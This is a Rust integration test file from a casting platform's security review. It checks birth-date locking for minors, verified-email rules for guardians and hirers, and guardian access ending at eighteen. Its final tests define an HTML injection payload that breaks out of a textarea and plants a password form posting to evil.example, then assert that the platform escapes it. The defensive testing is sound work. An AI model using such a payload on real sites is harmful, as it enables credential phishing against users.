//! Regression tests of the security review (issue 12), each named after the attack it stops:
//! minors changing what protects them, and acting before an address is verified.

use crate::common::{world::*, *};
use reqwest::StatusCode;

async fn birth_date_of(app: &TestApp, email: &str) -> String {
    sqlx::query_scalar::<_, time::Date>("SELECT p.date_of_birth FROM talent_profiles p JOIN users u ON u.id = p.user_id WHERE u.email = $1")
        .bind(email)
        .fetch_one(&app.db)
        .await
        .unwrap()
        .to_string()
}

#[tokio::test]
async fn a_minor_cannot_make_themselves_an_adult_by_editing_the_birth_date() {
    let app = TestApp::spawn().await;
    let w = World::build(&app).await;
    let (mut minor, mut admin) = (w.minor, w.admin);

    let res = minor.post_owned("/api/fn/save_profile", &profile_form("يوسف", "1990-01-01", "female", "public")).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = plain(&res.text().await.unwrap());
    assert_eq!(texts(&html, "#date_of_birth-error"), [plain(&app::i18n::translate(takeone::Locale::Ar, "error-birth-date-locked", &[]))]);
    assert_eq!(birth_date_of(&app, "yousef@talent.sa").await, "2012-03-01", "nothing changed");
    // The rest of the profile still saves with the date as it was.
    let res = minor.post_owned("/api/fn/save_profile", &profile_form("يوسف الجديد", "2012-03-01", "female", "hirers")).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let (_, page) = minor.get("/ar/profile").await;
    assert_eq!(
        attr(&page, "input[name='form[date_of_birth]']", "readonly").as_deref(),
        Some(""),
        "the field says it is not theirs to change"
    );

    // Only an administrator corrects it: audited, and the guardian is told.
    let form = [("lang_code", "ar"), ("profile_id", w.minor_profile.as_str()), ("form[date_of_birth]", "٢٠١١-٠٣-٠١")];
    assert_eq!(minor.post_form("/api/fn/correct_birth_date", &form).await.status(), StatusCode::FORBIDDEN);
    let res = admin.post_form("/api/fn/correct_birth_date", &form).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    assert_eq!(birth_date_of(&app, "yousef@talent.sa").await, "2011-03-01");
    let audited: serde_json::Value = sqlx::query_scalar("SELECT metadata FROM audit_events WHERE event_type = 'TalentBirthDateCorrected'")
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!((audited["before"].as_str(), audited["after"].as_str()), (Some("2012-03-01"), Some("2011-03-01")));
    let mail = wait_for_mail(&app, "mother@family.sa", "2011-03-01").await;
    assert!(mail.mail.subject.contains("يوسف"), "{}", mail.mail.subject);
    let res = admin
        .post_form(
            "/api/fn/correct_birth_date",
            &[("lang_code", "ar"), ("profile_id", w.minor_profile.as_str()), ("form[date_of_birth]", "2090-01-01")],
        )
        .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "not in the future");
}

#[tokio::test]
async fn a_minor_cannot_be_their_own_guardian_through_a_second_account() {
    let app = TestApp::spawn().await;
    let mut minor = talent_with_profile(&app, "ليان", "layan@talent.sa", "2011-06-01", "hirers").await;
    let res = minor.post_form("/api/fn/invite_guardian", &[("lang_code", "ar"), ("form[email]", "layan.second@mail.sa")]).await;
    assert!(res.status().is_redirection());
    let token = link_token(&wait_for_mail(&app, "layan.second@mail.sa", "guardian/accept?token=").await.mail.text);
    // The second account exists but its address was never confirmed.
    let mut second = app.browser();
    assert_eq!(second.register("guardian", "أم ليان", "layan.second@mail.sa", "").await.status(), StatusCode::FOUND);
    let res = second.post_form("/api/fn/accept_guardian", &[("lang_code", "ar"), ("token", &token)]).await;
    assert_eq!(res.status(), StatusCode::CONFLICT);
    assert!(plain(&res.text().await.unwrap()).contains(&plain(&app::i18n::translate(
        takeone::Locale::Ar,
        "error-guardian-email-unverified",
        &[]
    ))));
    let linked: bool = sqlx::query_scalar(
        "SELECT guardian_user_id IS NOT NULL FROM talent_profiles p JOIN users u ON u.id = p.user_id WHERE u.email = 'layan@talent.sa'",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert!(!linked, "no guardian was linked");
    // Once the guardian's own address is confirmed, the same invitation works.
    app.verify_email_of("layan.second@mail.sa").await;
    assert_eq!(second.post_form("/api/fn/accept_guardian", &[("lang_code", "ar"), ("token", &token)]).await.status(), StatusCode::FOUND);
}

#[tokio::test]
async fn a_guardians_access_ends_when_the_ward_turns_eighteen() {
    let app = TestApp::spawn().await;
    let w = World::build(&app).await;
    let mut guardian = w.guardian;
    let application = format!("/ar/applications/{}", w.minor_application);
    assert_eq!(guardian.get(&application).await.0, StatusCode::OK, "while a minor, the guardian follows the application");
    let (_, list) = guardian.get("/ar/applications").await;
    assert!(list.contains(&w.minor_application));

    // Eighteen today.
    sqlx::query(
        "UPDATE talent_profiles SET date_of_birth = (now() AT TIME ZONE 'Asia/Riyadh')::date - interval '18 years' WHERE id = $1::uuid",
    )
    .bind(&w.minor_profile)
    .execute(&app.db)
    .await
    .unwrap();
    assert_eq!(guardian.get(&application).await.0, StatusCode::NOT_FOUND, "the adult's application is theirs alone");
    let (_, list) = guardian.get("/ar/applications").await;
    assert!(!list.contains(&w.minor_application));
    let (status, profile) = guardian.get(&format!("/ar/talent/{}", w.minor_profile)).await;
    assert!(status == StatusCode::NOT_FOUND || !profile.contains("0501234567") && !profile.contains("الاسم الرسمي"), "no private data");
    let res = guardian
        .post_owned(
            "/api/fn/send_message",
            &[("lang_code".into(), "ar".into()), ("id".into(), w.minor_application.clone()), ("form[body]".into(), "مرحبا".into())],
        )
        .await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND, "nor does the guardian speak for them");
}

#[tokio::test]
async fn an_unverified_hirer_cannot_publish_but_keeps_what_they_typed() {
    let app = TestApp::spawn().await;
    let mut hirer = app.browser();
    assert_eq!(hirer.register("hirer", "ريم", "fresh@nakhla.sa", "استوديو نخلة").await.status(), StatusCode::FOUND);
    app.verify_organization_of("fresh@nakhla.sa").await;
    let (status, home) = hirer.get("/ar/").await;
    assert_eq!(status, StatusCode::OK, "the site stays usable");
    assert_eq!(texts(&home, "[data-testid=verify-banner]").len(), 1, "with a banner");

    let res = hirer.post_owned("/api/fn/save_call", &call_form("", "إعلان بلا بريد مؤكد", "publish")).await;
    assert_eq!(res.status(), StatusCode::CONFLICT);
    let html = plain(&res.text().await.unwrap());
    assert!(html.contains(&plain(&app::i18n::translate(takeone::Locale::Ar, "error-email-unverified-publish", &[]))));
    assert_eq!(attr(&html, "input[name='form[title]']", "value").as_deref(), Some("إعلان بلا بريد مؤكد"), "what was typed is kept");
    let calls: i64 = sqlx::query_scalar("SELECT count(*) FROM casting_calls").fetch_one(&app.db).await.unwrap();
    assert_eq!(calls, 0);

    // A draft is fine; publishing it waits for the address too.
    let res = hirer.post_owned("/api/fn/save_call", &call_form("", "مسودة", "draft")).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let draft = id_from(&location(&res));
    let res = hirer.post_owned("/api/fn/save_call", &call_form(&draft, "مسودة", "publish")).await;
    assert_eq!(res.status(), StatusCode::CONFLICT);

    app.verify_email_of("fresh@nakhla.sa").await;
    let (_, home) = hirer.get("/ar/").await;
    assert!(texts(&home, "[data-testid=verify-banner]").is_empty());
    let res = hirer.post_owned("/api/fn/save_call", &call_form(&draft, "مسودة", "publish")).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let status: String =
        sqlx::query_scalar("SELECT status FROM casting_calls WHERE id = $1::uuid").bind(&draft).fetch_one(&app.db).await.unwrap();
    assert_eq!(status, "active");
}

#[tokio::test]
async fn an_unverified_guardian_cannot_decide_for_a_ward() {
    let app = TestApp::spawn().await;
    let w = World::build(&app).await;
    let (mut minor, mut guardian) = (w.minor, w.guardian);
    let res = apply(&mut minor, &w.call, &w.roles[0]).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let application = id_from(&location(&res));
    sqlx::query("UPDATE users SET email_verified_at = NULL WHERE email = 'mother@family.sa'").execute(&app.db).await.unwrap();

    assert_eq!(guardian.get(&format!("/ar/applications/{application}")).await.0, StatusCode::OK, "reading stays open");
    let res = move_to(&app, &mut guardian, &application, "submitted").await;
    assert_eq!(res.status(), StatusCode::CONFLICT);
    assert!(plain(&res.text().await.unwrap()).contains(&plain(&app::i18n::translate(takeone::Locale::Ar, "error-email-unverified", &[]))));
    assert_eq!(status_of(&app, &application).await, "awaiting_guardian");

    app.verify_email_of("mother@family.sa").await;
    assert!(move_to(&app, &mut guardian, &application, "submitted").await.status().is_redirection());
    assert_eq!(status_of(&app, &application).await, "submitted");
}

/// Markup that closes a textarea and opens live elements if it is written into the page raw.
const TEXTAREA_BREAKOUT: &str = "كلمة </textarea><form data-injected=\"1\" action=\"https://evil.example/steal\"><input name=\"password\"></form><meta data-injected=\"1\" http-equiv=\"refresh\" content=\"0;url=https://evil.example\"> &lt;b&gt; & <textarea>";

fn injected(html: &str) -> usize {
    texts(html, "[data-injected]").len()
}

/// The texts of every textarea of the page, as the browser reads them.
fn textareas(html: &str) -> Vec<String> {
    let doc = scraper::Html::parse_document(html);
    let sel = scraper::Selector::parse("textarea").unwrap();
    doc.select(&sel).map(|e| e.text().collect::<String>()).collect()
}

#[tokio::test]
async fn html_injection_through_a_stored_bio_does_not_escape_its_textarea() {
    let app = TestApp::spawn().await;
    let mut talent = talent_with_profile(&app, "سارة", "sara@talent.sa", "1998-05-14", "hirers").await;
    let mut form = profile_form("سارة", "1998-05-14", "female", "hirers");
    form.push(("form[bio_ar]".into(), TEXTAREA_BREAKOUT.into()));
    form.push(("form[bio_en]".into(), TEXTAREA_BREAKOUT.into()));
    assert_eq!(talent.post_owned("/api/fn/save_profile", &form).await.status(), StatusCode::FOUND);
    let (_, page) = talent.get("/ar/profile").await;
    assert_eq!(injected(&page), 0, "no element came out of the stored bio");
    let areas = textareas(&page);
    assert_eq!(areas.iter().filter(|t| t.trim_end() == TEXTAREA_BREAKOUT).count(), 2, "each bio reads back exactly: {areas:?}");
    // The same value, typed into a form that fails, comes back the same way.
    let mut bad = form.clone();
    bad.retain(|(k, _)| k != "form[stage_name]");
    bad.push(("form[stage_name]".into(), String::new()));
    let res = talent.post_owned("/api/fn/save_profile", &bad).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let page = res.text().await.unwrap();
    assert_eq!(injected(&page), 0);
    assert_eq!(textareas(&page).iter().filter(|t| t.trim_end() == TEXTAREA_BREAKOUT).count(), 2);
}

#[tokio::test]
async fn html_injection_through_typed_call_and_application_texts_does_not_escape_their_textareas() {
    let app = TestApp::spawn().await;
    let w = World::build(&app).await;
    let (mut hirer, mut talent) = (w.hirer, w.other_talent);

    // Every textarea of the call form, sent back on a failed save.
    let mut form = call_form("", "", "publish");
    for (k, v) in form.iter_mut() {
        if k == "form[description]" {
            *v = TEXTAREA_BREAKOUT.into();
        }
    }
    form.push(("form[requirements]".into(), TEXTAREA_BREAKOUT.into()));
    form.push(("form[roles][0][description]".into(), TEXTAREA_BREAKOUT.into()));
    let res = hirer.post_owned("/api/fn/save_call", &form).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "no title");
    let page = res.text().await.unwrap();
    assert_eq!(injected(&page), 0);
    assert_eq!(textareas(&page).iter().filter(|t| t.trim_end() == TEXTAREA_BREAKOUT).count(), 3);

    // The cover note and an answer, sent back on a failed application.
    let res = talent
        .post_form(
            "/api/fn/apply",
            &[
                ("lang_code", "ar"),
                ("call_id", &w.call),
                ("role_id", &w.roles[0]),
                ("form[cover_note]", TEXTAREA_BREAKOUT),
                ("form[answers][0]", ""),
            ],
        )
        .await;
    assert!(res.status().is_client_error(), "{}", res.status());
    let page = res.text().await.unwrap();
    assert_eq!(injected(&page), 0);
    assert!(textareas(&page).iter().any(|t| t.trim_end() == TEXTAREA_BREAKOUT));
}
